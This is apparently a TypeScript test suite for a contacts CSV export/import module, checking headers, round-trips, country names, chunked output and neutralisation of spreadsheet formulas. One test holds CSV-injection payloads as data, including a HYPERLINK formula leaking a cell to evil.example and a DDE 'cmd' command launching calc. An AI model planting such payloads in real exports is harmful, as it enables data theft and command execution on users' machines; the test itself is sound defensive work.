import { expect } from '@open-wc/testing';
import { COUNTRY_CODES, countryCodeFromName, countryName } from '../countries.js';
import type { Contact } from '../schemas/contact.js';
import { contactsCsvPieces, contactsToCsv } from './export.js';
import { parseContactsCsv } from './import.js';
import { savedContact } from './test-contact.js';

const everyField = savedContact({
  id: 'c1',
  type: 'customer',
  level: 'secondary',
  firstName: 'Giulia',
  lastName: 'Rossi',
  company: 'Gruppo Ferro, S.p.A.',
  jobTitle: 'Buyer',
  department: 'Fleet',
  birthDate: '1980-12-14',
  language: 'zh-Hant',
  group: 'Trade Show',
  phones: {
    mobile: { number: '+393331234567', textable: true },
    work: { number: '+390212345678', landline: true },
    home: { number: '+390298765432' },
    other: { number: '+14155550100', dnc: true },
  },
  emails: { primary: 'giulia@example.com', other: 'g.rossi@example.org' },
  address: { street: 'Via Roma 1\nScala "B"', city: 'Milano', state: 'MI', zip: '20121', country: 'IT' },
  social: { facebook: 'giulia.rossi', whatsapp: '+393331234567', wechat: 'grossi', twitter: '@grossi', linkedin: 'in/grossi' },
  vip: true,
  validated: true,
  customAttributes: { 'Loyalty Tier': 'Gold', Notes: '-5% discount' },
  ownerId: 'staff-1',
  sharedWith: ['staff-2', 'staff-3'],
});
const sparse = savedContact({ id: 'c2', type: 'other', level: 'tertiary', lastName: 'Lee', customAttributes: { Hobby: 'Golf' } });

/** The fields an import sets, as the contact holds them (phone flags are the system's, not the file's). */
function importable(contact: Partial<Contact>) {
  const phones = Object.fromEntries(Object.entries(contact.phones ?? {}).map(([kind, phone]) => [kind, { number: phone!.number }]));
  const { type, level, firstName, lastName, company, jobTitle, department, birthDate, language, group, emails, address, social, vip, customAttributes } = contact;
  return { type, level, firstName, lastName, company, jobTitle, department, birthDate, language, group, phones, emails, address, social, vip, customAttributes };
}

describe('contactsToCsv', () => {
  it('writes every field with the importer’s headers, then reading-only columns', async () => {
    const csv = contactsToCsv([everyField, sparse], { staffNames: { 'staff-1': 'Ana Garcia', 'staff-2': 'Ben Lee' } });
    const parsed = await parseContactsCsv(csv);
    expect(parsed.header.slice(27)).to.deep.equal([
      'Custom: Hobby', 'Custom: Loyalty Tier', 'Custom: Notes', 'Validated', 'Dealership', 'Owner', 'Shared With', 'Created', 'Updated',
    ]);
    expect(parsed.ignoredColumns).to.deep.equal([]);
    const giulia = parsed.rows[0].raw;
    const cell = (name: string) => giulia[parsed.header.indexOf(name)];
    expect(cell('Type')).to.equal('Customer');
    expect(cell('Level')).to.equal('Secondary');
    expect(cell('Birth Date')).to.equal('12/14/1980');
    expect(cell('Language')).to.equal('Traditional Chinese');
    expect(cell('Country')).to.equal('Italy');
    expect(cell('VIP')).to.equal('Yes');
    expect(cell('Validated')).to.equal('Yes');
    expect(cell('Owner')).to.equal('Ana Garcia');
    expect(cell('Shared With'), 'an unknown staff id is written as it is').to.equal('Ben Lee; staff-3');
    expect(cell('Created')).to.equal('2024-03-01T09:00:00Z');
  });

  it('round-trips: export then import gives the same contacts', async () => {
    const parsed = await parseContactsCsv(contactsToCsv([everyField, sparse]));
    expect(parsed.rows.map((row) => row.errors)).to.deep.equal([[], []]);
    expect(importable(parsed.rows[0].input!)).to.deep.equal(importable(everyField));
    const lee = importable(parsed.rows[1].input!);
    expect(lee).to.deep.include({ type: 'other', level: 'tertiary', lastName: 'Lee', vip: false });
    expect(lee.customAttributes).to.deep.equal({ Hobby: 'Golf' });
  });

  it('neutralises formulas and re-imports them intact', async () => {
    const attacker = savedContact({
      id: 'c3',
      firstName: '@SUM(1+1)*cmd|',
      lastName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      phones: { mobile: { number: '+14155550100' } },
      address: { street: '1 Main St\n=cmd|\' /C calc\'!A0\r\n-2+3' },
    });
    const csv = contactsToCsv([attacker]);
    const body = csv.split('\r\n').slice(1).join('\r\n');
    expect(body).to.contain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(body).to.contain(",'+14155550100,");
    expect(body).to.contain("'@SUM(1+1)*cmd|");
    expect(body).to.contain(`"1 Main St\n'=cmd|' /C calc'!A0\r\n'-2+3"`);
    const [row] = (await parseContactsCsv(csv)).rows;
    expect(row.errors).to.deep.equal([]);
    expect(row.input).to.deep.include({ firstName: attacker.firstName, lastName: attacker.lastName });
    expect(row.input!.phones!.mobile!.number).to.equal('+14155550100');
    expect(row.input!.address!.street).to.equal(attacker.address.street);
  });

  it('leaves no cell or cell line starting with = + - @ tab or CR', async () => {
    const papa = ((await import('papaparse')) as unknown as { default: typeof import('papaparse') }).default;
    const csv = contactsToCsv([everyField, savedContact({ id: 'c4', lastName: '-1', company: 'a\n+b\r@c', customAttributes: { '=x': '\t=1' } })]);
    const cells = papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data.flat();
    const unsafe = cells.flatMap((cell) => cell.split(/\r\n|\n|\r/)).filter((line) => /^[=+\-@\t\r]/.test(line));
    expect(unsafe).to.deep.equal([]);
  });

  it('writes country names the importer reads back to the same code, for every country', () => {
    const misread = COUNTRY_CODES.filter((code) => countryCodeFromName(countryName(code, 'en')) !== code);
    expect(misread).to.deep.equal([]);
  });

  it('writes the same text in pieces of whole rows, the header and BOM in the first', () => {
    const contacts = Array.from({ length: 7 }, (_, at) =>
      savedContact({ id: `p${at}`, lastName: `Row ${at}`, company: at === 3 ? 'two\nlines' : 'Acme', customAttributes: { [`k${at % 2}`]: 'v' } }));
    const pieces = [...contactsCsvPieces(contacts, {}, 3)];
    expect(pieces).to.have.length(3);
    expect(pieces.join(''), 'as one piece').to.equal([...contactsCsvPieces(contacts, {}, 1_000)].join(''));
    expect(pieces[0]!.startsWith('\uFEFFType,Level,')).to.equal(true);
    for (const piece of pieces) expect(piece.endsWith('\r\n')).to.equal(true);
    expect(pieces[1]).to.contain('Row 3').and.not.contain('Row 2');
    const [empty, ...more] = [...contactsCsvPieces([], {}, 3)];
    expect(more).to.deep.equal([]);
    expect(empty!.startsWith('\uFEFFType,')).to.equal(true);
    expect(empty!.split('\r\n')).to.have.length(2);
  });
});
